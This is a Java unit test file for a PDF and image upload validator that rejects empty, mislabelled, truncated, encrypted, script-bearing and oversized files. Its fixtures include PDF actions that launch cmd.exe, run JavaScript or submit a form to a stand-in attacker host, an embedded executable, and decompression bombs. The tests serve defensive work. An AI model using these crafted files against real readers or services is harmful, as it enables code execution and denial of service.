package dev.guanka.rules.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.guanka.rules.document.BadDocument.Fault;
import dev.guanka.samples.Papers;
import dev.guanka.samples.Pdf;
import dev.guanka.samples.Pictures;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class BadDocumentTest {

  private static final Path TEMPORARY = Path.of(System.getProperty("java.io.tmpdir"));

  private final DocumentReader reader = new DocumentReader(DocumentLimits.defaults());
  private long before;

  @BeforeEach
  void countWhatIsThere() throws IOException {
    before = left();
  }

  @AfterEach
  void leavesNothing() throws IOException {
    assertThat(left()).isEqualTo(before);
  }

  @Test
  void refusesNothingAtAll() {
    assertThat(fault("a.pdf", new byte[0])).isEqualTo(Fault.EMPTY);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<html><script>alert(1)</script>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "PK\u0003\u0004zip",
        "GIF89a",
        "MZ program",
        "%PDF",
        "\n%PDF-1.7 behind a line"
      })
  void refusesWhatIsNoDocumentWhateverItIsCalled(String content) {
    assertThat(fault("a.pdf", content.getBytes(StandardCharsets.ISO_8859_1))).isEqualTo(Fault.TYPE);
  }

  @ParameterizedTest
  @CsvSource({"a.png", "a.html", "a.svg", "备案.pdf.exe", "a.jpg"})
  void refusesAPdfThatIsCalledSomethingElse(String name) {
    BadDocument bad = refused(name, Papers.vendorFiling());

    assertThat(bad.fault()).isEqualTo(Fault.MISLABELLED);
    assertThat(bad.detail().zh()).contains("PDF", name.substring(name.lastIndexOf('.')));
  }

  @Test
  void refusesMoreBytesThanAllowed() {
    byte[] large = Arrays.copyOf(Papers.vendorFiling(), (20 << 20) + 1);

    assertThat(fault("a.pdf", large)).isEqualTo(Fault.TOO_LARGE);
  }

  @ParameterizedTest
  @ValueSource(ints = {30, 60, 95})
  void refusesAPdfThatIsCutOff(int percent) {
    byte[] whole = Papers.agreement();

    assertThat(fault("a.pdf", Arrays.copyOf(whole, whole.length * percent / 100)))
        .isEqualTo(Fault.TRUNCATED);
  }

  @Test
  void refusesAPdfThatHoldsNothingReadable() {
    assertThat(fault("a.pdf", "%PDF-1.7\n junk \n%%EOF".getBytes(StandardCharsets.US_ASCII)))
        .isEqualTo(Fault.BROKEN);
    assertThat(fault("a.pdf", BareFontPdf.withObjects("<< /Type /Catalog >>")))
        .isEqualTo(Fault.BROKEN);
  }

  @ParameterizedTest
  @ValueSource(strings = {"secret", ""})
  void refusesAnEncryptedPdfWhoeverMayOpenIt(String userPassword) throws IOException {
    try (Pdf pdf = new Pdf()) {
      pdf.page("合作协议")
          .document()
          .protect(new StandardProtectionPolicy("owner", userPassword, new AccessPermission()));

      assertThat(fault("a.pdf", pdf.bytes())).isEqualTo(Fault.ENCRYPTED);
    }
  }

  @Test
  void refusesAScriptThatRunsWhenThePdfIsOpened() throws IOException {
    try (Pdf pdf = new Pdf()) {
      pdf.page("合作协议")
          .document()
          .getDocumentCatalog()
          .setOpenAction(new PDActionJavaScript("app.alert(1)"));

      BadDocument bad = refused("a.pdf", pdf.bytes());

      assertThat(bad.fault()).isEqualTo(Fault.ACTIVE);
      assertThat(bad.detail().en()).contains("JS").contains("print it to a plain PDF");
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "/OpenAction << /S /Launch /F (cmd.exe) >>                    | ACTIVE",
        "/AA << /WC << /S /JavaScript /JS (x) >> >>                   | ACTIVE",
        "/Names << /JavaScript << /Names [(a) << /S /Named >>] >> >>  | ACTIVE",
        "/AcroForm << /Fields [] /XFA (x) >>                          | ACTIVE",
        "/X [[[<< /S /SubmitForm /F (http://evil.example/) >>]]]      | ACTIVE",
        "/X << /Subtype /RichMedia >>                                 | ACTIVE",
        "/X << /S /ImportData >>                                      | ACTIVE",
        "/X << /Type /Annot /Subtype /FileAttachment >>               | ATTACHMENTS",
        "/X << /Type /Filespec /EF << /F 3 0 R >> >>                  | ATTACHMENTS",
        "/X << /S /GoToE >>                                           | ATTACHMENTS"
      })
  void refusesWhatRunsAndWhatHides(String part, Fault expected) {
    byte[] pdf =
        BareFontPdf.withObjects(
            "<< /Type /Catalog /Pages 2 0 R " + part + " >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>");

    assertThat(fault("a.pdf", pdf)).isEqualTo(expected);
  }

  @Test
  void refusesAScriptThatNoPageRefersTo() {
    byte[] pdf =
        BareFontPdf.withObjects(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            "<< /S /JavaScript /JS (app.launchURL\\(1\\)) >>");

    assertThat(fault("a.pdf", pdf)).isEqualTo(Fault.ACTIVE);
  }

  @Test
  void letsALinkAndAPlaceInThePdfBe() throws IOException {
    byte[] pdf =
        BareFontPdf.withObjects(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [<< /Type /Annot"
                + " /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://beian.cac.gov.cn) >> >>] >>");

    assertThat(reader.read("a.pdf", pdf).pages()).hasSize(1);
  }

  @Test
  void refusesAFileInsideThePdf() throws IOException {
    try (Pdf pdf = new Pdf()) {
      PDDocument document = pdf.page("发票").document();
      PDComplexFileSpecification file = new PDComplexFileSpecification();
      file.setEmbeddedFile(
          new PDEmbeddedFile(
              document, new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII))));
      PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
      files.setNames(Map.of("invoice.exe", file));
      PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
      names.setEmbeddedFiles(files);
      document.getDocumentCatalog().setNames(names);

      assertThat(fault("a.pdf", pdf.bytes())).isEqualTo(Fault.ATTACHMENTS);
    }
  }

  @Test
  void refusesMorePagesThanAllowed() throws IOException {
    try (Pdf pdf = new Pdf()) {
      for (int i = 0; i <= DocumentLimits.defaults().pages(); i++) {
        pdf.page("第页");
      }

      BadDocument bad = refused("a.pdf", pdf.bytes());

      assertThat(bad.fault()).isEqualTo(Fault.TOO_LONG);
      assertThat(bad.detail().en()).contains("200 pages");
    }
  }

  @Test
  void refusesAPageThatUnpacksToMoreThanTheMemory() throws IOException {
    byte[] bomb = deflated(300L << 20, 'A');

    assertThat(fault("a.pdf", packedPage(bomb))).isEqualTo(Fault.TOO_COMPLEX);
  }

  @Test
  void stopsAtTheEndOfItsTime() throws IOException {
    DocumentLimits hurried =
        new DocumentLimits(1 << 20, 9, 1000, 1000, 192, Duration.ofMillis(300));
    byte[] endless = packedPage(deflated(300L << 20, ' '));
    long began = System.nanoTime();

    BadDocument bad =
        catchThrowableOfType(
            BadDocument.class, () -> new DocumentReader(hurried).read("a.pdf", endless));

    assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(10));
    assertThat(bad.fault()).isEqualTo(Fault.TOO_COMPLEX);
  }

  @Test
  void comesToAnEndWherePagesHoldEachOther() throws IOException {
    byte[] pdf =
        BareFontPdf.withObjects(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>",
            "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>");

    assertThat(reader.read("a.pdf", pdf).hasText()).isFalse();
  }

  @Test
  void refusesImagesThatAreCutOffOrDamaged() throws IOException {
    byte[] png = Pictures.png(200, 200);
    byte[] jpeg = Pictures.jpeg(200, 200);
    byte[] damaged = png.clone();
    damaged[40] ^= 1;

    assertThat(fault("a.png", Arrays.copyOf(png, png.length - 20))).isEqualTo(Fault.TRUNCATED);
    assertThat(fault("a.png", Arrays.copyOf(png, 40))).isEqualTo(Fault.TRUNCATED);
    assertThat(fault("a.png", damaged)).isEqualTo(Fault.BROKEN);
    assertThat(fault("a.png", Pictures.png())).isEqualTo(Fault.TRUNCATED);
    assertThat(fault("a.jpg", Arrays.copyOf(jpeg, jpeg.length - 10))).isEqualTo(Fault.TRUNCATED);
    assertThat(fault("a.jpg", Arrays.copyOf(jpeg, 100))).isEqualTo(Fault.TRUNCATED);
    assertThat(fault("a.jpg", new byte[] {-1, -40, -1, 0, 0, 0, 0, 0})).isEqualTo(Fault.BROKEN);
  }

  @Test
  void refusesImagesThatUnpackToMoreThanTheySay() throws IOException {
    assertThat(fault("a.png", Pictures.pngOf(10, 10, 200 << 20))).isEqualTo(Fault.TOO_COMPLEX);
    byte[] note = "ICC\0\0".getBytes(StandardCharsets.ISO_8859_1);
    ByteArrayOutputStream profile = new ByteArrayOutputStream();
    profile.write(note);
    profile.write(deflated(64 << 20, 0));
    byte[] png = Pictures.png(10, 10);
    byte[] withProfile =
        Pictures.png(Arrays.copyOfRange(png, 8, 33), Pictures.chunk("iCCP", profile.toByteArray()));

    assertThat(fault("a.png", withProfile)).isEqualTo(Fault.TOO_COMPLEX);
  }

  @Test
  void refusesImagesThatAreTooLargeToOpen() throws IOException {
    BadDocument bad = refused("a.png", Pictures.pngOf(60_000, 60_000, 100));

    assertThat(bad.fault()).isEqualTo(Fault.IMAGE_TOO_LARGE);
    assertThat(bad.detail().zh()).contains("60000×60000");
    assertThat(fault("a.png", Pictures.pngOf(10_000, 5_001, 100))).isEqualTo(Fault.IMAGE_TOO_LARGE);
    assertThat(fault("a.png", Pictures.pngOf(0, 10, 100))).isEqualTo(Fault.BROKEN);
  }

  private static byte[] deflated(long size, int filling) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (DeflaterOutputStream packed = new DeflaterOutputStream(out)) {
      byte[] some = new byte[1 << 20];
      Arrays.fill(some, (byte) filling);
      for (long left = size; left > 0; left -= some.length) {
        packed.write(some);
      }
    }
    return out.toByteArray();
  }

  private static byte[] packedPage(byte[] content) {
    return BareFontPdf.withObjects(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        "<< /Filter /FlateDecode /Length "
            + content.length
            + " >>\nstream\n"
            + new String(content, StandardCharsets.ISO_8859_1)
            + "\nendstream");
  }

  private Fault fault(String name, byte[] bytes) {
    return refused(name, bytes).fault();
  }

  private BadDocument refused(String name, byte[] bytes) {
    BadDocument bad = catchThrowableOfType(BadDocument.class, () -> reader.read(name, bytes));
    assertThat(bad).as(name).isNotNull();
    return bad;
  }

  private static long left() throws IOException {
    try (Stream<Path> files = Files.list(TEMPORARY)) {
      return files
          .filter(file -> file.getFileName().toString().startsWith("guanka-document"))
          .count();
    }
  }
}
